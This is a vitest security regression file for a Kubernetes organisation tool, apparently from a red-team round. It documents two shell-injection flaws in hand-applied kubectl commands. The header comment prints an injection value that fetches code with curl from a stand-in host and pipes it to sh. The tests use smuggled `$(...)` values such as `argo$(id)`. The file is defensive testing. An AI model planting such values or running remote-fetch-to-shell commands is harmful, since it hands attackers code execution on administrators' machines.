/**
 * Red team R26 (base de68670). Each test asserts the safe behaviour and fails on the code it was
 * written against.
 *
 * R26-1 (low; an admin's machine, with their cluster credentials): the hand-applied commands splice
 *     `appliedBy` into a shell command unquoted. A Namespace to untrack under namespace protection
 *     is relabelled `--as=<identity>` (analysis/hand-applied.ts asIn, the untrack line's third
 *     command), and APPLIED_BY_PATTERN (model/guard-rails.ts) allows every printable ASCII
 *     character but space, quotes and backslash: `$`, `(`, `)`, `{`, `}`, `|`, `;`, `&`, `<`, `>`
 *     and backticks. An identity that is not a ServiceAccount's (an IAM role's ARN, a certificate's
 *     name: only `system:serviceaccount:` names are checked further) such as
 *     `arn:aws:iam::1:role/argocd$(curl${IFS}-s${IFS}x.io|sh)` passes check and synth. A member
 *     plants it with one admin's approval: turning namespace protection on is no weakening
 *     (guard-rails passes, actor-not-admin alone asks for an admin; the line reads 'namespace
 *     protection turned on (applied by arn:…)'; replacing an identity needs two admins). Once
 *     merged, every later pull request removing a namespace has
 *     the review hand the admins a `kubectl … --as=arn:…$(curl…|sh)` to paste, which runs the
 *     author's code in the admin's shell, where cluster credentials are. The comment shows it
 *     inside a code span, not as what it is; and it shows it wrongly: the markdown escapes `|` as
 *     `\|` (for tables) inside the code span of a list item, where GitHub shows the backslash, so
 *     the command a person copies from the comment is not the one orgctl computed either. Fix:
 *     quote what a command splices that is not a name the API server constrains to a DNS label
 *     (`--as='…'`: appliedBy holds no `'`), or refuse shell metacharacters in appliedBy; and escape
 *     `|` only where a table reads it.
 *
 * R26-2 (low; an admin-grade settings change, two admins): `delivery.argocd.namespace` is checked
 *     for length only (schema: 1..63; constructs/organization.ts keeps it as given), never as the
 *     namespace name the API server takes (a DNS-1123 label). `argo$(id)` passes check and synth,
 *     is written as metadata.namespace of dist/argocd/applicationset.yaml and appproject.yaml (the
 *     API server refuses both: DESIGN's 'every name passes the API server's own validation for its
 *     kind'), and is spliced into every hand-applied command that names Argo CD's namespace
 *     (`kubectl apply -n argo$(id) --server-side … -f dist/argocd/appproject.yaml`, the status
 *     `kubectl get -n argo$(id) …`, the suspend `kubectl -n argo$(id) patch …`): the same shell
 *     splice as R26-1. Fix: refuse a namespace that is not a DNS-1123 label (invalid-name or
 *     kubernetes-names, as for the organization's own namespaces).
 */
import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { run, tempDir } from './helpers.ts';
import { baseSpec, distPair, type Spec } from './review/scenarios.ts';

/** Shell code the identity runs when the command is pasted: it writes RAN to standard error. */
const IDENTITY = 'arn:aws:iam::1:role/argocd$(echo${IFS}RAN|cat>&2)';

/** acme in lga1 and ord1, delivered by Argo CD, namespace protection applied as IDENTITY. */
const protectedBy = (identity: string): Spec => {
  const s = baseSpec();
  s.spec.clusters = ['lga1', 'ord1'];
  s.spec.delivery = { argocd: { repoURL: 'https://github.com/acme/org.git' } };
  s.spec.namespaceProtection = { appliedBy: identity };
  return s;
};

const removeData = (s: Spec) => {
  s.spec.namespaces = s.spec.namespaces.filter((n: { name: string }) => n.name !== 'data');
  s.spec.tokens = s.spec.tokens.filter((t: { id: string }) => t.id !== 'bots');
};

/** The command relabelling data's Namespace in lga1, from `orgctl diff --format json`'s hand-applied entries. */
async function untrackIn(sides: { base: string; head: string }): Promise<{ relabel: string }> {
  const r = await run(['diff', '--base', sides.base, '--head', sides.head, '--format', 'json']);
  expect(r.code, r.stderr).toBe(0);
  const entries = JSON.parse(r.stdout).handApplied as { file: string; commands?: string[] }[];
  const commands = entries.find((e) => e.file === 'dist/lga1/')!.commands!;
  return { relabel: commands.find((c) => c.startsWith('kubectl --context lga1 label namespace data'))! };
}

describe('R26-1: appliedBy is spliced into a hand-applied shell command unquoted', () => {
  it('the untrack command passes the identity to kubectl as one literal argument, running nothing', async () => {
    const { relabel } = await untrackIn(await distPair(protectedBy(IDENTITY), removeData));
    expect(relabel).toContain('--as=');
    // The command as an admin pastes it, kubectl a stand-in printing its arguments one a line.
    const sh = spawnSync('bash', ['--noprofile', '--norc', '-c', `kubectl() { printf '%s\\n' "$@"; }\n${relabel}`], {
      encoding: 'utf8',
    });
    expect(sh.stderr).not.toContain('RAN');
    expect(sh.stdout.split('\n')).toContain(`--as=${IDENTITY}`);
  });

  it('the comment shows the command as orgctl computed it (no `\\|` GitHub shows in a code span outside a table)', async () => {
    const sides = await distPair(protectedBy(IDENTITY), removeData);
    const { relabel } = await untrackIn(sides);
    const md = await run(['diff', '--base', sides.base, '--head', sides.head, '--format', 'md']);
    expect(md.code, md.stderr).toBe(0);
    const line = md.stdout.split('\n').find((l) => l.includes('kubectl --context lga1 label namespace data'))!;
    expect(line).not.toContain('\\|');
    expect(line).toContain(relabel);
  });
});

describe("R26-2: Argo CD's namespace is not checked as a namespace name", () => {
  it('check refuses delivery.argocd.namespace argo$(id), naming the field', async () => {
    const s = baseSpec();
    s.spec.delivery = { argocd: { repoURL: 'https://github.com/acme/org.git', namespace: 'argo$(id)' } };
    const file = join(tempDir(), 'org.json');
    writeFileSync(file, JSON.stringify(s));
    const r = await run(['check', '--spec', file]);
    expect(r.code, r.stdout).toBe(1);
    expect(r.stdout + r.stderr).toContain('delivery.argocd.namespace');
  });
});
